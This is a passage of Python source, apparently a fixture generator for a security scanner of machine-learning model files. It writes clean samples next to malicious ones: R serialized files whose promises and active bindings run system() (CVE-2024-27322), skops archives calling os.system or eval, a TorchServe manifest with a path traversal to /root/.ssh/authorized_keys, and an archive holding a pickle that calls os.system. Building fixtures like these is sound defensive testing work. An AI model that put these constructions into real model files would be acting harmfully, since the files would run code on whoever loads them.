    closure = rf(3, tag=True) + GLOBALENV + rf(2, tag=True) + r_sym('x') + MISSING + NIL + r_call('+', r_sym('x'), r_real(1.0))
    lm = rf(19, obj=True, attr=True) + struct.pack('>i', 3) + r_real(1.5, 2.0) \
        + r_call('lm', r_call('~', r_sym('y'), r_sym('x'))) + closure \
        + r_attrs(names=r_str('coefficients', 'call', 'predict'), **{'class': r_str('lm')})
    put('benign/lm-object.rds', gz(r_xdr_stream(lm)), B,
        'writer: hand-encoded R list with a call, a closure and class attributes (saveRDS layout)', 'clean',
        formats=['gzip', 'r-serialized'])
    # save(): 'RDX3\n' then a pairlist (LISTSXP with tag) holding the object
    pairlist = rf(2, tag=True) + r_sym('x') + r_intsxp([4, 5]) + NIL
    put('benign/data.rda', gz(b'RDX3\n' + r_xdr_stream(pairlist)), B,
        'writer: hand-encoded R save() workspace (RDX3), gzip-compressed', 'clean', formats=['gzip', 'r-serialized'])
    payload = r_call('system', r_str(CMD))
    promise = rf(5, tag=True) + GLOBALENV + UNBOUND + payload  # tag = environment, CAR = value, CDR = expression
    put('malicious/promise.rds', gz(r_xdr_stream(promise)), M,
        'R deserialization: unevaluated promise running system() on first use (CVE-2024-27322)', 'malicious',
        ['BW-FMT-017'], ['gzip', 'r-serialized'])
    put('malicious/promise-in-workspace.rda',
        gz(b'RDX3\n' + r_xdr_stream(rf(2, tag=True) + r_sym('model') + promise + NIL)), M,
        'R deserialization: promise bound to a variable in a saved workspace', 'malicious', ['BW-FMT-017'],
        ['gzip', 'r-serialized'])
    fn = rf(3, tag=True) + GLOBALENV + NIL + payload
    env = rf(4) + struct.pack('>i', 0) + GLOBALENV + rf(2, levels=1 << 15, tag=True) + r_sym('value') + fn + NIL \
        + NIL + NIL
    put('malicious/active-binding.rds', gz(r_xdr_stream(env)), M,
        'R deserialization: environment with an active binding that runs system() when read', 'malicious',
        ['BW-FMT-017'], ['gzip', 'r-serialized'])
    put('malicious/truncated.rds', gz(r_xdr_stream(lm)[:-9]), M, 'malformed: truncated R stream', 'inconclusive',
        ['BW-FMT-005'], ['gzip', 'r-serialized'])
    cls = b'torch.FloatTensor'
    t7 = struct.pack('<iii', 4, 1, 3) + b'V 1' + struct.pack('<i', len(cls)) + cls
    t7 += struct.pack('<i', 1) + struct.pack('<q', 4) + struct.pack('<q', 1) + struct.pack('<q', 1)  # 1-d, size 4
    sto = b'torch.FloatStorage'
    t7 += struct.pack('<iii', 4, 2, 3) + b'V 1' + struct.pack('<i', len(sto)) + sto + struct.pack('<q', 4) \
        + struct.pack('<4f', 1, 2, 3, 4)
    put('benign/tensor.t7', t7, B, 'writer: hand-encoded Torch7 binary (torch.FloatTensor)', 'clean', ['BW-FMT-001'],
        ['torch7'])


# ------------------------------------------------------------------ skops / TorchServe / XGBoost JSON (analyzers)

def npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=False)
    return buf.getvalue()


def skops_zip(schema: dict, arrays: dict[str, np.ndarray]) -> bytes:
    members = [('schema.json', json.dumps(schema, indent=2).encode())]
    members += [(name, npy(a)) for name, a in arrays.items()]
    return zip_bytes(members)


def sk_prim(v) -> dict:
    t = {int: 'int', float: 'float', str: 'str', bool: 'bool'}[type(v)]
    return {'__class__': t, '__module__': 'builtins', '__loader__': 'JsonNode', 'content': json.dumps(v), 'is_json': True}


def sk_dict(d: dict) -> dict:
    return {'__class__': 'dict', '__module__': 'builtins', '__loader__': 'DictNode', 'content': d,
            'key_types': {'__class__': 'list', '__module__': 'builtins', '__loader__': 'ListNode',
                          'content': [{'__class__': 'str', '__module__': 'builtins', '__loader__': 'TypeNode'}
                                      for _ in d]}}


def sk_array(file: str) -> dict:
    return {'__class__': 'ndarray', '__module__': 'numpy', '__loader__': 'NdArrayNode', 'type': 'numpy', 'file': file}


def skops_logreg(extra: dict | None = None, cls: str = 'LogisticRegression',
                 module: str = 'sklearn.linear_model._logistic') -> dict:
    attrs = {
        'C': sk_prim(1.0), 'max_iter': sk_prim(100), 'penalty': sk_prim('l2'), 'solver': sk_prim('lbfgs'),
        'n_features_in_': sk_prim(2), 'classes_': sk_array('a1.npy'), 'coef_': sk_array('a2.npy'),
        'intercept_': sk_array('a3.npy'), 'n_iter_': sk_array('a4.npy'),
    }
    if extra:
        attrs.update(extra)
    return {'__class__': cls, '__module__': module, '__loader__': 'ObjectNode', 'content': sk_dict(attrs),
            'protocol': 2, '_skops_version': '0.10.0'}


SK_ARRAYS = {'a1.npy': np.array([0, 1]), 'a2.npy': np.array([[0.5, -0.25]]), 'a3.npy': np.array([0.1]),
             'a4.npy': np.array([7], dtype=np.int32)}


def gen_json_analyzed() -> None:
    put('benign/logistic-regression.skops', skops_zip(skops_logreg(), SK_ARRAYS), B,
        'writer: hand-built skops archive (schema.json protocol 2 + numpy .npy members)', 'clean',
        formats=['zip', 'skops-schema'], json_analyzer=True)
    evil_fn = {'__class__': 'system', '__module__': 'os', '__loader__': 'FunctionNode'}
    put('malicious/skops-os-system.skops', skops_zip(skops_logreg({'callback': evil_fn}), SK_ARRAYS), M,
        'skops FunctionNode naming os.system', 'malicious', ['BW-FMT-010'], ['zip', 'skops-schema'],
        json_analyzer=True)
    evil_eval = {'__class__': 'partial', '__module__': 'functools', '__loader__': 'PartialNode', 'content': {
        'func': {'__class__': 'eval', '__module__': 'builtins', '__loader__': 'FunctionNode'},
        'args': {'__class__': 'tuple', '__module__': 'builtins', '__loader__': 'TupleNode',
                 'content': [sk_prim("__import__('os').system('echo bulwark-test')")]},
        'kwds': sk_dict({}), 'namespace': sk_dict({})}}
    put('malicious/skops-partial-eval.skops', skops_zip(skops_logreg({'scorer': evil_eval}), SK_ARRAYS), M,
        'skops PartialNode wrapping builtins.eval', 'malicious', ['BW-FMT-010'], ['zip', 'skops-schema'],
        json_analyzer=True)
    put('malicious/skops-untrusted-type.skops',
        skops_zip(skops_logreg(cls='BoostedWrapper', module='acme_ml.wrappers'), SK_ARRAYS), M,
        'skops object of a type outside the trusted set', 'suspicious', ['BW-FMT-009'], ['zip', 'skops-schema'],
        json_analyzer=True)

    weights = torch_state_dict_bytes()
    manifest = {'createdOn': '14/11/2023 22:13:20', 'runtime': 'python',
                'model': {'modelName': 'mnist', 'serializedFile': 'mnist.pt', 'handler': 'image_classifier',
                          'modelVersion': '1.0'}, 'archiverVersion': '0.9.0'}
    put('benign/mnist.mar', zip_bytes([('MAR-INF/MANIFEST.json', json.dumps(manifest, indent=4).encode()),
                                       ('mnist.pt', weights)]), B,
        'writer: hand-built TorchServe archive (built-in handler) with torch.save weights', 'clean',
        ['BW-FMT-011'], ['zip', 'torchserve-manifest'], json_analyzer=True)
    bad = json.loads(json.dumps(manifest))
    bad['model']['serializedFile'] = '../../../../root/.ssh/authorized_keys'
    bad['model']['handler'] = 'custom_handler.py:handle'
    put('malicious/torchserve-traversal.mar',
        zip_bytes([('MAR-INF/MANIFEST.json', json.dumps(bad, indent=4).encode()),
                   ('custom_handler.py', b'def handle(data, context):\n    return data\n'),
                   ('mnist.pt', weights)]), M,
        'TorchServe manifest with a path traversal in serializedFile', 'suspicious', ['BW-FMT-007', 'BW-FMT-011'],
        ['zip', 'torchserve-manifest'], json_analyzer=True)
    put('malicious/torchserve-pickle-weights.mar',
        zip_bytes([('MAR-INF/MANIFEST.json', json.dumps(manifest, indent=4).encode()),
                   ('mnist.pt', pickle.dumps(Pwn(), protocol=2))]), M,
        'TorchServe archive whose serialized model is a pickle calling os.system', 'malicious', ['BW-PKL-001'],
        ['zip', 'torchserve-manifest'], json_analyzer=True)
    put('benign/xgboost-model.json', json.dumps(XGB_MODEL), B, 'writer: hand-written XGBoost JSON model (2.0.3 layout)',
        'clean', ['BW-FMT-001'], ['json', 'xgboost-json'], json_analyzer=True)


def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    gen_pmml()
    gen_openvino()
    gen_nemo()
    gen_coreml()
    gen_paddle()
    gen_flax()
    gen_trees()
    gen_r_torch7()
    gen_json_analyzed()
    about = ('Other model families written by scripts/gen-other-fixtures.py: hand-encoded files following each '
             "format's public specification (no Debian library exists for them); archives carry torch.save/numpy data.")
    (OUT / 'manifest.json').write_text(json.dumps({'about': about, 'files': entries}, indent=2) + '\n')
    (OUT / 'json-analyzers' / 'manifest.json').write_text(json.dumps({
        'about': about + ' These need otherJsonAnalyzers registered in the JSON scanner.', 'files': json_entries},
        indent=2) + '\n')
    total = sum((OUT / e['path']).stat().st_size for e in entries) + \
        sum((OUT / 'json-analyzers' / e['path']).stat().st_size for e in json_entries)
    print(f'wrote {len(entries) + len(json_entries)} files ({total} bytes) to {OUT}')


if __name__ == '__main__':
    sys.exit(main())
